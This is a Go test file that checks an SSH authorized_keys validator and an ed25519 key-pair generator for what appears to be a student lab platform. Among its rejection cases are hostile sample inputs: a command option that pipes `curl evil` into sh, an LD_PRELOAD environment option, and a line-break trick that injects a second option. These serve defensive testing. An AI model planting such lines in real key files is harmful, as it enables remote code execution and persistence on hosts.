package pki_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/rsa"
	"encoding/base64"
	"errors"
	"fmt"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/crypto/ssh"

	"github.com/labforge/labforge/internal/pki"
)

// Public keys generated once with OpenSSH 9.2 (`ssh-keygen -t <type> -C student@lab`).
const (
	fixtureEd25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH7jviIb/b7/ZiDy5SoK45u6P9KQow80mxSCRXYHgLu1 student@lab"
	fixtureP256    = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBC43ub8+lE5Qp+8RM3XWNBJl6uJUo96HLEQIB6gB41YU+9jm48xqKZCBPWNPMLly4+jmd13xD5LJTH+mz37SKHA= student@lab"
	fixtureP384    = "ecdsa-sha2-nistp384 AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBLcjkNtkJVAtti3QX8R6umWAQiS246q/nB3/C4bDgPPp+KiSe2NCWvUQbT+MncIAWzmyVMqmWQdq7QQb1y2W4c3fM5LMxD0ls80BkYwThnZlGds4ZX9Gjt0sqGzh1BwwDQ== student@lab"
	fixtureP521    = "ecdsa-sha2-nistp521 AAAAE2VjZHNhLXNoYTItbmlzdHA1MjEAAAAIbmlzdHA1MjEAAACFBAG1Ys1sK46rJmNx4IZ3tStLfvQfSGTD9z2/i7kGmG/l40ebsVH8IuQyCNVk+GfN3ETNq8livmoTEBKjrxbUEKHENQHnMyB8wcFx54zSzb4WfTsptNEtoUenVsCyo2AyMwx/6Itn/G1U1+DXvlrHRNCk17wabfNJGh5cUFHc9darOgvTGA== student@lab"
	fixtureRSA2048 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7wXHgiYp31vrJQOirpI3X0yQkGaD9oJv9CJRfOJ6v/nBSFGbz2/HqsQum1KN++oL3NEf1LgXNZT2/85mgS9EENLE0bTT55bKxEBLujHAwtLjCcib6F7u0suyYbCO8yknSRt8QnvGkUUyI+tpJGwKVd0HF01ku2I5egNAyP79HSMXDluEJOeP2OuLBQve1fBfrTw51Z9MUh/X5E2SIu9ZeYY9OHHd2ctnhvAb37GG3SwOxGGpifKBZ0lTKDOwvTuuMX5AfiizuvWyi9pqWoe+3XpfeE3es8mBKyQGAo8x2aq51gnLrO19oKABLOTkyijbQKPQFGmskyyw/UZ1UXtRt student@lab"
	fixtureRSA1024 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQCu34NuUpbnN6eQewaQQhL7oW5zWwy4GoRyVKgbh4kQhTDGUKoSWlXV7uvXNMRSdZJpRYzrgaPvLti4SRQGy5W4C6XAwko/Mrn7UckKHLEhj7xzVCH5rezlDV5Qhd7Rjt0ClX2KhU+DGUnfuWdUVqi5Sn1PY5qfLovDH/Kf1ZcGJQ== student@lab"
	fixtureDSA     = "ssh-dss AAAAB3NzaC1kc3MAAACBAOAa/7OXZTH6P+HzlTAN7qDyTNLvbnZvwJ0p3hIUnApXvTOishTcEoFxRjPtEsNgar5mrI1Iey6KSTCjrodjkKuZaKrRyprmPpcbnS+G17OqLcPtSTY25Ts3NUC3zxMNnK2iimbrulmuZ+2WR+4HmmfRGzcpRnofqYOS5dv862t9AAAAFQCsA2u0uGXaEz6ZefJ/JcqcJJyaiwAAAIB81gBZOSQ0x4FqbIisRXViz8c+NSw1lOg0Q4oy2KFdU3UtU5We0ZxiExPmCMUfya4/G1GHbiTO2Hf36yfU4XafsspUWm6xNx26BqSlAhL0NlIA/K9FfK2yVCiCZ7I0KRlI/HDXFy15lBuRcfC9L/ePufNnAdRzKJRa8V9P27VcEwAAAIA1ePtASPhuqEyE3rQ9Q1s1IGo4dPa5C8iwz7NHlcJTvWpz8CpLZI8FR/y7v9nzeb/UzxaFc90VoYJFi5c5VEiQGXxTbU+Kvt9DqqnFjdOaacEuse3Ls6a7qjGUb29kWpn07TJzpVscAP5tiPKuEUaJk9qcrIkpvjhJyfiVrKZp8w== root@vm"
)

// keyOnly drops the comment from an authorized_keys line.
func keyOnly(line string) string {
	f := strings.Fields(line)
	return f[0] + " " + f[1]
}

// blobOf returns the base64 key data of an authorized_keys line.
func blobOf(line string) string { return strings.Fields(line)[1] }

// wireLine encodes an SSH wire-format public key struct as "<type> <base64>".
// Used for key types we cannot generate here (FIDO security keys) and for
// RSA moduli of an exact size.
func wireLine(keyType string, wire any) string {
	return keyType + " " + base64.StdEncoding.EncodeToString(ssh.Marshal(wire))
}

func skEd25519Line() string {
	return wireLine(ssh.KeyAlgoSKED25519, struct {
		Name        string
		KeyBytes    []byte
		Application string
	}{ssh.KeyAlgoSKED25519, bytes.Repeat([]byte{7}, ed25519.PublicKeySize), "ssh:"})
}

func skECDSALine(t *testing.T) string {
	t.Helper()
	point, err := newTestCA(t, 5).Key.Public().(*ecdsa.PublicKey).Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return wireLine(ssh.KeyAlgoSKECDSA256, struct {
		Name        string
		Curve       string
		KeyBytes    []byte
		Application string
	}{ssh.KeyAlgoSKECDSA256, "nistp256", point, "ssh:"})
}

// rsaLineOfBits builds an ssh-rsa key whose modulus has exactly bits bits.
// The modulus is not a product of primes, which ssh parsing does not (and
// cannot cheaply) check; only its size matters here.
func rsaLineOfBits(t *testing.T, bits int) string {
	t.Helper()
	n := new(big.Int).Lsh(big.NewInt(1), uint(bits-1))
	n.Add(n, big.NewInt(1))
	pub, err := ssh.NewPublicKey(&rsa.PublicKey{N: n, E: 65537})
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSuffix(string(ssh.MarshalAuthorizedKey(pub)), "\n")
}

func TestParseAuthorizedKeyAccepts(t *testing.T) {
	ed := keyOnly(fixtureEd25519)
	p256Blob := blobOf(fixtureP256)
	// Same bytes, but the two padding bits before "=" are set: the decoder
	// accepts it, the output must be the canonical encoding.
	p256NonCanonical := strings.TrimSuffix(p256Blob, "A=") + "B="
	longComment := strings.Repeat("c", pki.MaxAuthorizedKeyLen-len(ed)-1)
	sk := skEd25519Line()
	skEC := skECDSALine(t)
	rsa2048 := rsaLineOfBits(t, 2048)

	tests := []struct {
		name string
		line string
		want string
	}{
		{name: "ed25519 from ssh-keygen", line: fixtureEd25519, want: fixtureEd25519},
		{name: "ecdsa P-256 from ssh-keygen", line: fixtureP256, want: fixtureP256},
		{name: "ecdsa P-384 from ssh-keygen", line: fixtureP384, want: fixtureP384},
		{name: "ecdsa P-521 from ssh-keygen", line: fixtureP521, want: fixtureP521},
		{name: "rsa 2048 from ssh-keygen", line: fixtureRSA2048, want: fixtureRSA2048},
		{name: "rsa of exactly 2048 bits", line: rsa2048, want: rsa2048},
		{name: "FIDO ed25519 security key", line: sk + " yubikey", want: sk + " yubikey"},
		{name: "FIDO ecdsa security key", line: skEC, want: skEC},
		{name: "no comment", line: ed, want: ed},
		{name: "surrounding and repeated whitespace", line: " \t" + strings.ReplaceAll(fixtureEd25519, " ", "  \t ") + "  ",
			want: fixtureEd25519},
		{name: "multi-word comment collapses to single spaces", line: ed + "   Jane  Doe\tlaptop ", want: ed + " Jane Doe laptop"},
		{name: "control and non-ASCII characters dropped from comment", line: ed + " jos\u00e9@lab \x1b[31mred\x7f \u00a0\u2028",
			want: ed + " jos@lab [31mred"},
		{name: "comment of only unprintable characters is dropped", line: ed + " \x1b\x07 \u00e9", want: ed},
		{name: "invalid UTF-8 in comment is dropped", line: ed + " a\xffb", want: ed + " ab"},
		{name: "non-canonical base64 is re-encoded", line: "ecdsa-sha2-nistp256 " + p256NonCanonical,
			want: "ecdsa-sha2-nistp256 " + p256Blob},
		{name: "comment may mention private keys", line: ed + " not my PRIVATE KEY", want: ed + " not my PRIVATE KEY"},
		{name: "exactly the maximum length", line: ed + " " + longComment, want: ed + " " + longComment},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := pki.ParseAuthorizedKey(tt.line)
			if err != nil {
				t.Fatalf("ParseAuthorizedKey: %v", err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("normalized key (-want +got):\n%s", diff)
			}
			// Normalising is idempotent and the result is a line ssh accepts.
			if again, err := pki.ParseAuthorizedKey(got); err != nil || again != got {
				t.Errorf("re-parsing the normalized key gave %q, %v", again, err)
			}
			if _, _, _, rest, err := ssh.ParseAuthorizedKey([]byte(got)); err != nil || len(rest) != 0 {
				t.Errorf("x/crypto/ssh rejects the normalized key: %v (rest %q)", err, rest)
			}
		})
	}
}

func TestParseAuthorizedKeyRejects(t *testing.T) {
	const prefix = "invalid SSH public key: "
	const onlyKey = `; provide only "<type> <base64> [comment]"`
	ed := keyOnly(fixtureEd25519)
	edBlob := blobOf(fixtureEd25519)
	_, generatedPrivate, err := pki.NewSSHKeyPair(seeded(1), "student")
	if err != nil {
		t.Fatal(err)
	}
	overlong := ed + " " + strings.Repeat("c", pki.MaxAuthorizedKeyLen-len(ed))
	rawBlob, _ := base64.StdEncoding.DecodeString(edBlob)
	supported := "use one of ssh-ed25519, ecdsa-sha2-nistp256, ecdsa-sha2-nistp384, ecdsa-sha2-nistp521, ssh-rsa, " +
		"sk-ssh-ed25519@openssh.com, sk-ecdsa-sha2-nistp256@openssh.com"

	tests := []struct {
		name    string
		line    string
		wantErr string
	}{
		// authorized_keys options: a student must not choose what their key may do.
		{name: "command option", line: `command="/bin/sh -c 'curl evil | sh'" ` + fixtureEd25519,
			wantErr: `authorized_keys options such as "command" are not allowed` + onlyKey},
		{name: "from option", line: `from="10.0.0.0/8" ` + fixtureEd25519,
			wantErr: `authorized_keys options such as "from" are not allowed` + onlyKey},
		{name: "environment option", line: `environment="LD_PRELOAD=/tmp/x.so" ` + fixtureEd25519,
			wantErr: `authorized_keys options such as "environment" are not allowed` + onlyKey},
		{name: "option list", line: `no-pty,permitopen="10.0.0.1:6443" ` + fixtureEd25519,
			wantErr: `authorized_keys options such as "no-pty" are not allowed` + onlyKey},
		{name: "bare restrict option", line: "restrict " + fixtureEd25519,
			wantErr: `authorized_keys options such as "restrict" are not allowed` + onlyKey},
		{name: "bare cert-authority option", line: "cert-authority " + fixtureEd25519,
			wantErr: `authorized_keys options such as "cert-authority" are not allowed` + onlyKey},

		// Private keys, pasted by mistake.
		{name: "OpenSSH private key", line: string(generatedPrivate),
			wantErr: "this is a private key; upload the public key (the .pub file) and keep the private key secret"},
		{name: "private key flattened onto one line", line: strings.ReplaceAll(string(generatedPrivate), "\n", " "),
			wantErr: "this is a private key; upload the public key (the .pub file) and keep the private key secret"},
		{name: "PKCS #1 private key", line: "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n",
			wantErr: "this is a private key; upload the public key (the .pub file) and keep the private key secret"},
		{name: "ssh.com private key", line: "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nP2/56wAAAi4AAAA3\n",
			wantErr: "this is a private key; upload the public key (the .pub file) and keep the private key secret"},
		{name: "PuTTY private key", line: "PuTTY-User-Key-File-3: ssh-ed25519",
			wantErr: "this is a private key; upload the public key (the .pub file) and keep the private key secret"},

		// More or less than one line.
		{name: "two keys on two lines", line: fixtureEd25519 + "\n" + fixtureP256,
			wantErr: "it contains a line break; provide exactly one key on a single line"},
		{name: "second line injecting options", line: ed + "\n" + `command="sh" ` + fixtureP256,
			wantErr: "it contains a line break; provide exactly one key on a single line"},
		{name: "trailing newline", line: fixtureEd25519 + "\n",
			wantErr: "it contains a line break; provide exactly one key on a single line"},
		{name: "carriage return", line: fixtureEd25519 + "\r",
			wantErr: "it contains a carriage return; provide exactly one key on a single line"},
		{name: "NUL byte", line: ed + "\x00" + " comment",
			wantErr: "it contains a NUL byte"},
		{name: "one byte over the limit", line: overlong,
			wantErr: fmt.Sprintf("it is %d bytes long, the limit is 16384", pki.MaxAuthorizedKeyLen+1)},
		{name: "empty", line: "",
			wantErr: "it is empty"},
		{name: "only whitespace", line: " \t ",
			wantErr: "it is empty"},

		// Malformed or unacceptable keys.
		{name: "type without data", line: "ssh-ed25519",
			wantErr: `there is no key data after "ssh-ed25519"`},
		{name: "data is not base64", line: "ssh-ed25519 AAAA*not-base64*",
			wantErr: "the key data is not valid base64"},
		{name: "data is not a key", line: "ssh-ed25519 " + base64.StdEncoding.EncodeToString([]byte("hello")),
			wantErr: "the key data is not a valid ssh-ed25519 key"},
		{name: "truncated key data", line: "ssh-ed25519 " + base64.StdEncoding.EncodeToString(rawBlob[:30]),
			wantErr: "the key data is not a valid ssh-ed25519 key"},
		{name: "trailing bytes after the key", line: "ssh-ed25519 " + base64.StdEncoding.EncodeToString(append(rawBlob, 0)),
			wantErr: "the key data is not a valid ssh-ed25519 key"},
		{name: "label disagrees with key data", line: "ssh-rsa " + edBlob,
			wantErr: "the line says ssh-rsa but the key data is ssh-ed25519"},
		{name: "DSA", line: fixtureDSA,
			wantErr: `key type "ssh-dss" is not supported; ` + supported},
		{name: "certificate", line: "ssh-ed25519-cert-v01@openssh.com " + edBlob,
			wantErr: `key type "ssh-ed25519-cert-v01@openssh.com" is not supported; ` + supported},
		{name: "RSA 1024 from ssh-keygen", line: fixtureRSA1024,
			wantErr: "the RSA key has 1024 bits, at least 2048 are required"},
		{name: "RSA one bit short", line: rsaLineOfBits(t, 2047),
			wantErr: "the RSA key has 2047 bits, at least 2048 are required"},
		{name: "long unknown type is truncated", line: strings.Repeat("x", 100) + " " + edBlob,
			wantErr: `key type "` + strings.Repeat("x", 40) + `..." is not supported; ` + supported},
		{name: "terminal escape in type is quoted", line: "\x1b[2Jssh-ed25519 " + edBlob,
			wantErr: `key type "\x1b[2Jssh-ed25519" is not supported; ` + supported},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := pki.ParseAuthorizedKey(tt.line)
			if got != "" {
				t.Errorf("got a key %q together with an error", got)
			}
			if diff := cmp.Diff(prefix+tt.wantErr, errString(err)); diff != "" {
				t.Errorf("error mismatch (-want +got):\n%s", diff)
			}
			if !errors.Is(err, pki.ErrInvalidAuthorizedKey) {
				t.Errorf("error does not wrap ErrInvalidAuthorizedKey")
			}
			// Errors name what is wrong but never repeat key material.
			if err != nil && strings.Contains(err.Error(), "AAAA") {
				t.Errorf("error echoes key data: %v", err)
			}
		})
	}
}

func TestNewSSHKeyPair(t *testing.T) {
	tests := []struct {
		name        string
		comment     string
		wantComment string
	}{
		{name: "plain comment", comment: "student-1@lab-7", wantComment: "student-1@lab-7"},
		{name: "no comment", comment: "", wantComment: ""},
		{name: "comment is sanitised", comment: " Jane\tDoe\n\x1b[31m ", wantComment: "Jane Doe [31m"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			authorized, privPEM, err := pki.NewSSHKeyPair(seeded(1), tt.comment)
			if err != nil {
				t.Fatal(err)
			}
			// The public line is fully determined by the seed.
			again, _, err := pki.NewSSHKeyPair(seeded(1), tt.comment)
			if err != nil || again != authorized {
				t.Errorf("same seed gave %q, want %q (err %v)", again, authorized, err)
			}

			fields := strings.SplitN(authorized, " ", 3)
			gotComment := ""
			if len(fields) == 3 {
				gotComment = fields[2]
			}
			if diff := cmp.Diff(tt.wantComment, gotComment); diff != "" {
				t.Errorf("comment (-want +got):\n%s", diff)
			}
			if !strings.HasPrefix(authorized, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI") {
				t.Errorf("authorized key %q is not an ssh-ed25519 line", authorized)
			}
			normalized, err := pki.ParseAuthorizedKey(authorized)
			if err != nil || normalized != authorized {
				t.Errorf("ParseAuthorizedKey(%q) = %q, %v; want it unchanged", authorized, normalized, err)
			}

			if !bytes.HasPrefix(privPEM, []byte("-----BEGIN OPENSSH PRIVATE KEY-----\n")) {
				t.Errorf("private key is not in OpenSSH format:\n%s", privPEM)
			}
			raw, err := ssh.ParseRawPrivateKey(privPEM)
			if err != nil {
				t.Fatalf("ParseRawPrivateKey: %v", err)
			}
			priv, ok := raw.(*ed25519.PrivateKey)
			if !ok {
				t.Fatalf("private key is %T, want *ed25519.PrivateKey", raw)
			}
			pub, _, _, _, err := ssh.ParseAuthorizedKey([]byte(authorized))
			if err != nil {
				t.Fatal(err)
			}
			if !priv.Public().(ed25519.PublicKey).Equal(pub.(ssh.CryptoPublicKey).CryptoPublicKey()) {
				t.Error("private key does not match the authorized key")
			}
			// And it works: a signature from the private key verifies with the public line.
			signer, err := ssh.ParsePrivateKey(privPEM)
			if err != nil {
				t.Fatal(err)
			}
			sig, err := signer.Sign(nil, []byte("challenge"))
			if err != nil {
				t.Fatal(err)
			}
			if err := pub.Verify([]byte("challenge"), sig); err != nil {
				t.Errorf("signature does not verify against the authorized key: %v", err)
			}
		})
	}
}

// TestNewSSHKeyPairOpenSSH has OpenSSH itself load the private key, which is
// what `ssh -i` does. Skipped where ssh-keygen is not installed.
func TestNewSSHKeyPairOpenSSH(t *testing.T) {
	keygen, err := exec.LookPath("ssh-keygen")
	if err != nil {
		t.Skip("ssh-keygen not installed")
	}
	authorized, privPEM, err := pki.NewSSHKeyPair(nil, "student@lab")
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "id_ed25519")
	// OpenSSH refuses private keys readable by others.
	if err := os.WriteFile(path, privPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(keygen, "-y", "-f", path).CombinedOutput()
	if err != nil {
		t.Fatalf("ssh-keygen -y: %v\n%s", err, out)
	}
	if diff := cmp.Diff(authorized, strings.TrimSpace(string(out))); diff != "" {
		t.Errorf("public key derived by ssh-keygen (-want +got):\n%s", diff)
	}
}
